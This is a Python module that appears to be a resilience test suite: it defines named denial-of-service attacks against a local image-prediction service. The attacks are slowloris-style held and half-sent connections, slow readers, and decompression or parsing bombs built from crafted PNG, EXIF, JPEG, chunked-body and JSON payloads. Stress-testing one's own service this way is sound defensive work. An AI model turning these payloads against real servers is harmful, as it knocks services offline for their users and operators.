"""The attacks of attack_serve.py: connections that say nothing, half, or too much, and small files that cost much."""

import io
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from functools import partial

import numpy as np
from PIL import Image

POST = b"POST /predict HTTP/1.1\r\nHost: here\r\n"
SENDERS = 4  # of costly files, at a time


class Target:
    """The service under attack."""

    def __init__(self, port: int, ends: threading.Event):
        self.port, self.ends = port, ends
        self._held: list[socket.socket] = []

    def connect(self, receive_buffer: int | None = None) -> socket.socket:
        """Opens a connection that stays open."""
        connection = socket.socket()
        self._held.append(connection)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.settimeout(20)
        connection.connect(("127.0.0.1", self.port))
        return connection

    def close(self) -> None:
        """Closes all connections."""
        for connection in self._held:
            connection.close()


def open_many(count: int, said: bytes, per_second: float, target: Target) -> None:
    """Opens connections that say so much and no more; each that the service closes is opened again."""
    held: list[socket.socket] = []
    while not target.ends.is_set():
        held = [connection for connection in held if not is_closed(connection)]
        while len(held) < count and not target.ends.is_set():
            try:
                connection = target.connect()
                connection.sendall(said)
            except OSError:
                time.sleep(0.01)
                continue
            held.append(connection)
            if per_second:
                time.sleep(1 / per_second)
        target.ends.wait(1)


def is_closed(connection: socket.socket) -> bool:
    """Whether the service has closed a connection, which is closed here too then."""
    try:
        connection.setblocking(False)
        closed = connection.recv(65536) == b""
    except BlockingIOError:
        return False
    except OSError:
        closed = True
    if closed:
        connection.close()
    return closed


def read_slowly(count: int, target: Target) -> None:
    """Asks for overlays of a megabyte and does not read them."""
    image = image_file(512)
    said = b"POST /predict?format=overlay HTTP/1.1\r\nHost: here\r\nContent-Length: %d\r\n\r\n" % len(image)
    for _ in range(count):
        with suppress(OSError):
            target.connect(receive_buffer=4096).sendall(said + image)


def send_again_and_again(request: Callable[[], bytes], target: Target) -> None:
    """Sends a request over and over, each over a new connection, from a few threads."""
    content = request()

    def sender():
        while not target.ends.is_set():
            with suppress(OSError), socket.create_connection(("127.0.0.1", target.port), timeout=20) as connection:
                connection.sendall(content)
                connection.recv(65536)

    for _ in range(SENDERS):
        threading.Thread(target=sender, daemon=True).start()


def image_file(side: int) -> bytes:
    """A PNG of noise."""
    pixels = np.random.default_rng(0).integers(0, 256, (side, side, 3), np.uint8)
    file = io.BytesIO()
    Image.fromarray(pixels).save(file, format="PNG")
    return file.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def in_png(extra: bytes) -> bytes:
    """A PNG with more chunks before its pixels."""
    image = image_file(64)
    return image[:33] + extra + image[33:]


def posted(content: bytes) -> bytes:
    return POST + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(content) + content


def empty_chunks() -> bytes:
    return posted(in_png(chunk(b"aaAa", b"") * 600_000))


def rationals() -> bytes:
    """EXIF data with 800,000 fractions in one tag."""
    count = 800_000
    head = struct.pack("<4sIHHHIII", b"II*\0", 8, 1, 0x8298, 5, count, 26, 0)
    return posted(in_png(chunk(b"eXIf", head + struct.pack("<II", 1, 3) * count)))


def padding() -> bytes:
    file = io.BytesIO()
    Image.fromarray(np.zeros((64, 64, 3), np.uint8)).save(file, format="JPEG")
    return posted(file.getvalue()[:2] + b"\xff" * 4_000_000 + file.getvalue()[2:])


def one_byte_chunks() -> bytes:
    head = POST + b"Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n"
    return head + b"1\r\n\xff\r\n" * 1_000_000 + b"0\r\n\r\n"


def numbers() -> bytes:
    """An image as so many numbers of JSON as may be."""
    row = "[" + ",".join(["[1,2,3]"] * 500) + "]"
    return posted(f'{{"instances":[[{",".join([row] * 495)}]]}}'.encode()).replace(
        b"/predict", b"/v1/models/model:predict"
    )


HALF_BODY = POST + b"Content-Length: 100000\r\n\r\n" + b"\x89PNG\r\n\x1a\n"
# Name -> what begins the attack, and its seconds; None for as long as most.
ATTACKS: dict[str, tuple[Callable[[Target], None], float | None]] = {
    "nothing": (lambda target: None, None),
    "silent connections, 1": (partial(open_many, 1, b"", 0), None),
    "silent connections, 1,050": (partial(open_many, 1050, b"", 0), None),
    "half headers, 200": (partial(open_many, 200, POST[:30], 0), None),
    "half bodies, 200": (partial(open_many, 200, HALF_BODY, 0), None),
    "new silent connections, 12 per second": (partial(open_many, 10_000, b"", 12), 30),
    "slow readers, 60": (partial(read_slowly, 60), None),
    "PNG of 600,000 empty chunks": (partial(send_again_and_again, empty_chunks), None),
    "EXIF of 800,000 rationals": (partial(send_again_and_again, rationals), None),
    "JPEG with 4 MB of 0xFF": (partial(send_again_and_again, padding), None),
    "JSON of 742,500 numbers": (partial(send_again_and_again, numbers), None),
    "body of 1,000,000 chunks of a byte": (partial(send_again_and_again, one_byte_chunks), None),
}
